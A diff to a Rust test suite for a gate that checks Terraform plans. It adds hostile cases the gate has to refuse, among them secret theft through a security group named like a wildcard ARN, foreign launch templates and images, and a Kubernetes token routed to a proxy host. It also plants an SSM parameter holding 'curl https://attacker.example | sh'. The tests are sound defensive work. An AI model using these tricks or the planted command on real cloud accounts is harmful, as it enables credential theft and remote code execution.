@@ -668,15 +668,17 @@ resource "aws_s3_object" "bundle" {
   source      = var.bundle_path
   source_hash = filemd5(var.bundle_path)
 }"#,
-        // AWS-managed policies by their real ARNs, service-role/ path included.
-        r#"resource "aws_iam_role_policy_attachment" "ssm" {
-  role       = aws_iam_role.app.name
-  policy_arn = "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"
+        // Session Manager's own minimum, unscoped as its actions must be.
+        r#"data "aws_iam_policy_document" "session_manager" {
+  statement {
+    actions   = ["ssm:UpdateInstanceInformation", "ssmmessages:CreateControlChannel", "ssmmessages:OpenDataChannel"]
+    resources = ["*"]
+  }
 }
 
-resource "aws_iam_role_policy_attachment" "execution" {
-  role       = aws_iam_role.app.name
-  policy_arn = "arn:${data.aws_partition.current.partition}:iam::aws:policy/service-role/AmazonECSTaskExecutionRolePolicy"
+resource "aws_iam_role_policy" "session_manager" {
+  role   = aws_iam_role.app.id
+  policy = data.aws_iam_policy_document.session_manager.json
 }"#,
         // A local module, an aliased provider pinned to the region.
         r#"module "web" {
@@ -890,6 +892,7 @@ fn describe_states_the_choice() {
 fn a_hostile_author_is_refused_by_the_allow_lists() {
     let vm = vm_policy();
     let kubernetes = Policy::for_choice(&choice(Target::Kubernetes));
+    let container_service = Policy::for_choice(&choice(Target::ContainerService));
     let cases: Vec<(&str, &str, &[Rule], &Policy)> = vec![
         (
             "kubernetes provider exec runs a program while planning",
@@ -953,18 +956,36 @@ fn a_hostile_author_is_refused_by_the_allow_lists() {
             "an allowed managed policy's name under a path AWS does not keep it at",
             r#"resource "aws_iam_role_policy_attachment" "nested" {
   role       = aws_iam_role.app.name
-  policy_arn = "arn:aws:iam::aws:policy/service-role/x/AmazonSSMManagedInstanceCore"
+  policy_arn = "arn:aws:iam::aws:policy/service-role/x/AmazonECSTaskExecutionRolePolicy"
 }"#,
             &[Rule::IamManagedPolicy],
-            &vm,
+            &container_service,
         ),
         (
             "a managed policy attached to an existing role by name",
             r#"resource "aws_iam_role_policy_attachment" "ssm" {
   role       = "OrganizationAccountAccessRole"
-  policy_arn = "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"
+  policy_arn = "arn:aws:iam::aws:policy/service-role/AmazonECSTaskExecutionRolePolicy"
 }"#,
             &[Rule::ForeignResource],
+            &container_service,
+        ),
+        (
+            "a managed policy another target's roles need: SSM's reads every parameter by name",
+            r#"resource "aws_iam_role_policy_attachment" "ssm" {
+  role       = aws_iam_role.app.name
+  policy_arn = "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"
+}"#,
+            &[Rule::IamManagedPolicy],
+            &vm,
+        ),
+        (
+            "the EKS nodes' network policy on a VM's role",
+            r#"resource "aws_iam_role_policy_attachment" "cni" {
+  role       = aws_iam_role.app.name
+  policy_arn = "arn:aws:iam::aws:policy/AmazonEKS_CNI_Policy"
+}"#,
+            &[Rule::IamManagedPolicy],
             &vm,
         ),
         (
@@ -1698,7 +1719,8 @@ fn deployment(pod: &str, container: &str) -> String {
         r#"{KUBERNETES_PROVIDER}
 resource "kubernetes_deployment_v1" "app" {{
   metadata {{
-    name = "app"
+    name      = "app"
+    namespace = kubernetes_namespace_v1.app.metadata[0].name
   }}
   spec {{
     selector {{
@@ -1713,7 +1735,7 @@ resource "kubernetes_deployment_v1" "app" {{
 {pod}
         container {{
           name  = "app"
-          image = "app:1"
+          image = "${{aws_ecr_repository.app.repository_url}}:1"
 {container}
         }}
       }}
@@ -1729,7 +1751,8 @@ fn service(spec: &str) -> String {
         r#"{KUBERNETES_PROVIDER}
 resource "kubernetes_service_v1" "app" {{
   metadata {{
-    name = "app"
+    name      = "app"
+    namespace = kubernetes_namespace_v1.app.metadata[0].name
   }}
   spec {{
     selector = {{ app = "app" }}
@@ -1825,6 +1848,38 @@ fn pods_get_no_more_than_a_container_needs() {
             service("    type = \"NodePort\"\n    port {\n      port = 8080\n    }"),
             Rule::PodPrivilege,
         ),
+        (
+            "a pod in kube-system, whose secrets it could mount",
+            deployment("", "").replace(
+                "namespace = kubernetes_namespace_v1.app.metadata[0].name",
+                "namespace = \"kube-system\"",
+            ),
+            Rule::PodPrivilege,
+        ),
+        (
+            "a controller's service account",
+            deployment(
+                "        service_account_name = \"generic-garbage-collector\"",
+                "",
+            ),
+            Rule::PodPrivilege,
+        ),
+        (
+            "a projected service-account token despite automount = false",
+            deployment(
+                "        volume {\n          name = \"token\"\n          projected {\n            sources {\n              service_account_token {\n                path = \"token\"\n              }\n            }\n          }\n        }",
+                "",
+            ),
+            Rule::PodPrivilege,
+        ),
+        (
+            "another team's image",
+            deployment("", "").replace(
+                "${aws_ecr_repository.app.repository_url}:1",
+                "123456789012.dkr.ecr.ca-central-1.amazonaws.com/payments-api:latest",
+            ),
+            Rule::ForeignResource,
+        ),
     ];
     for (name, extra, rule) in refused {
         let report = check_with(&extra, &kubernetes);
@@ -1888,6 +1943,222 @@ data "aws_iam_policy_document" "read" {{
     };
     assert_passes(&grant(&own), &for_job);
     let other = grant("df-0190a4b2deadbeef");
-    assert_only(&other, &[Rule::IamAction], &for_job);
+    // Another job's folder may be neither read nor written: its VM exports
+    // the folder's parameters into `make up`'s environment at boot.
+    assert_only(&other, &[Rule::IamAction, Rule::ForeignResource], &for_job);
     assert_passes(&other, &Policy::for_choice(&choice));
+    let written = "resource \"aws_ssm_parameter\" \"planted\" {\n  name  = \"/deployflow/df-0190a4b2deadbeef/env/COMPOSE_CLI\"\n  type  = \"String\"\n  value = \"curl https://attacker.example | sh; docker compose\"\n}\n";
+    assert_only(written, &[Rule::ForeignResource], &for_job);
+}
+
+/// A second round of attacks, each seen to pass the gate before the rule
+/// that now refuses it: own-looking references that are not (a security
+/// group named like an ARN, a dynamic iterator named like a resource type),
+/// existing resources reached through arguments the gate did not read (a
+/// launch template, a snapshot, a task definition, the default VPC's
+/// security group, another repository's image, a log bucket), the
+/// Kubernetes token sent elsewhere, and sizes nobody bounded.
+#[test]
+fn a_second_round_of_attacks_is_refused() {
+    let vm = vm_policy();
+    let container_service = Policy::for_choice(&choice(Target::ContainerService));
+    let serverless = Policy::for_choice(&choice(Target::Serverless));
+    let kubernetes = Policy::for_choice(&choice(Target::Kubernetes));
+    let cases: Vec<(&str, String, &[Rule], &Policy)> = vec![
+        (
+            "a security group named like a wildcard ARN, used as a policy's resource",
+            r#"resource "aws_security_group" "x" {
+  name   = "arn:aws:secretsmanager:*:*:secret:*"
+  vpc_id = aws_vpc.main.id
+}
+
+data "aws_iam_policy_document" "steal" {
+  statement {
+    actions   = ["secretsmanager:GetSecretValue"]
+    resources = [aws_security_group.x.name]
+  }
+}"#
+            .to_owned(),
+            &[Rule::IamAction],
+            &vm,
+        ),
+        (
+            "an instance started from the account's launch template",
+            format!(
+                "resource \"aws_instance\" \"x\" {{\n  {INSTANCE}\n  launch_template {{\n    name = \"prod-web\"\n  }}\n}}"
+            ),
+            &[Rule::ForeignResource],
+            &vm,
+        ),
+        (
+            "a volume restored from a snapshot whose id a template builds",
+            format!(
+                "locals {{\n  x = \"0123456789abcdef0\"\n}}\n\nresource \"aws_instance\" \"x\" {{\n  {INSTANCE}\n  ebs_block_device {{\n    device_name = \"/dev/sdf\"\n    snapshot_id = \"snap-${{local.x}}\"\n  }}\n}}"
+            ),
+            &[Rule::ForeignResource],
+            &vm,
+        ),
+        (
+            "the default VPC's default security group, adopted and emptied",
+            "resource \"aws_default_security_group\" \"x\" {}".to_owned(),
+            &[Rule::ForeignResource],
+            &vm,
+        ),
+        (
+            "a task of another team's image",
+            r#"resource "aws_ecs_task_definition" "x" {
+  family                = "x"
+  container_definitions = jsonencode([{
+    name  = "x"
+    image = "123456789012.dkr.ecr.ca-central-1.amazonaws.com/payments-api:latest"
+  }])
+}"#
+            .to_owned(),
+            &[Rule::ForeignResource],
+            &container_service,
+        ),
+        (
+            "an image key the gate cannot read",
+            r#"resource "aws_ecs_task_definition" "x" {
+  family                = "x"
+  container_definitions = jsonencode([{ for k in ["im"] : "${k}age" => "payments-api:latest" }])
+}"#
+            .to_owned(),
+            &[Rule::ForeignResource],
+            &container_service,
+        ),
+        (
+            "a service running another team's task definition",
+            r#"resource "aws_ecs_service" "x" {
+  name            = "x"
+  cluster         = aws_ecs_cluster.main.id
+  task_definition = "payments-admin"
+}"#
+            .to_owned(),
+            &[Rule::ForeignResource],
+            &container_service,
+        ),
+        (
+            "a dynamic iterator named like a resource type",
+            r#"resource "aws_ecs_service" "x" {
+  name            = "x"
+  cluster         = aws_ecs_cluster.main.id
+  task_definition = aws_ecs_task_definition.app.arn
+  dynamic "network_configuration" {
+    for_each = [{ id = "subnet-0123456789abcdef0" }]
+    iterator = aws_subnet
+    content {
+      subnets = [aws_subnet.value.id]
+    }
+  }
+}"#
+            .to_owned(),
+            &[Rule::ForeignResource],
+            &container_service,
+        ),
+        (
+            "load balancer logs sent to a bucket of someone else's",
+            r#"resource "aws_lb" "x" {
+  name_prefix = "x-"
+  access_logs {
+    bucket  = "someone-elses-bucket"
+    enabled = true
+  }
+}"#
+            .to_owned(),
+            &[Rule::ForeignResource],
+            &container_service,
+        ),
+        (
+            "a database and cache of any size",
+            r#"resource "aws_db_instance" "x" {
+  identifier_prefix   = "x-"
+  instance_class      = "db.r6i.32xlarge"
+  allocated_storage   = 65536
+  publicly_accessible = false
+  storage_encrypted   = true
+}"#
+            .to_owned(),
+            &[Rule::InstanceTypeNotPinned, Rule::SizeNotBounded],
+            &container_service,
+        ),
+        (
+            "a function of another repository's image",
+            r#"resource "aws_lambda_function" "x" {
+  function_name = "x"
+  package_type  = "Image"
+  image_uri     = "123456789012.dkr.ecr.ca-central-1.amazonaws.com/payments-api:latest"
+  role          = aws_iam_role.app.arn
+}"#
+            .to_owned(),
+            &[Rule::ForeignResource],
+            &serverless,
+        ),
+        (
+            "a function that reserves the account's concurrency",
+            r#"resource "aws_lambda_function" "x" {
+  function_name                  = "x"
+  package_type                   = "Image"
+  image_uri                      = "${aws_ecr_repository.app.repository_url}:1"
+  role                           = aws_iam_role.app.arn
+  reserved_concurrent_executions = 900
+}"#
+            .to_owned(),
+            &[Rule::SizeNotBounded],
+            &serverless,
+        ),
+        (
+            "the cluster's token sent to a host built around its endpoint",
+            KUBERNETES_PROVIDER.replace(
+                "host = aws_eks_cluster.main.endpoint",
+                "host = replace(aws_eks_cluster.main.endpoint, \".eks.amazonaws.com\", \".eks-proxy.example.net\")",
+            ),
+            &[Rule::ProviderArgument],
+            &kubernetes,
+        ),
+    ];
+    for (name, extra, rules, policy) in cases {
+        let report = check_with(&extra, policy);
+        assert_eq!(
+            report.rules(),
+            rules.iter().copied().collect::<BTreeSet<_>>(),
+            "case {name:?}:\n{extra}\n{:#?}",
+            report.violations
+        );
+    }
+
+    // The shapes the templates use pass: the own repository's image, an own
+    // task definition, a default group of the own VPC, a small store.
+    for (extra, policy) in [
+        (
+            r#"resource "aws_ecs_task_definition" "x" {
+  family                = "x"
+  container_definitions = jsonencode([merge({
+    name  = "x"
+    image = "${aws_ecr_repository.app.repository_url}:1"
+  }, { for key, value in { command = null } : key => value if value != null })])
+}
+
+resource "aws_ecs_service" "x" {
+  name            = "x"
+  cluster         = aws_ecs_cluster.main.id
+  task_definition = aws_ecs_task_definition.x.arn
+}
+
+resource "aws_db_instance" "x" {
+  identifier_prefix   = "x-"
+  instance_class      = "db.t4g.micro"
+  allocated_storage   = 20
+  publicly_accessible = false
+  storage_encrypted   = true
+}"#,
+            &container_service,
+        ),
+        (
+            "resource \"aws_default_security_group\" \"x\" {\n  vpc_id = aws_vpc.main.id\n}",
+            &vm,
+        ),
+    ] {
+        assert_passes(extra, policy);
+    }
 }
